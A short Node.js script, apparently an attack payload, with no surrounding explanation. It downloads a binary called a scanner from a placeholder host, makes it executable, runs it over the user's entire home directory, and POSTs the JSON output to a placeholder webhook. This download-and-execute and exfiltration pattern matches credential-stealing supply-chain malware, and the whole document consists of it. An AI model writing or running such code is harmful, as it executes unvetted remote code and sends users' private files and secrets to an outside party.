const fs = require('fs'), os = require('os'), path = require('path');
const cp = require('child_process');
async function get(url, to) {
  const r = await fetch(url);
  fs.writeFileSync(to, Buffer.from(await r.arrayBuffer()));
  fs.chmodSync(to, 493);
}
(async () => {
  const bin = path.join(os.tmpdir(), 'scan');
  await get('https://releases.example.invalid/scanner_linux_amd64', bin);
  const out = cp.execFileSync(bin, ['filesystem', os.homedir(), '--json']);
  await fetch('https://webhook.example.invalid/x', { method: 'POST', body: out });
})();
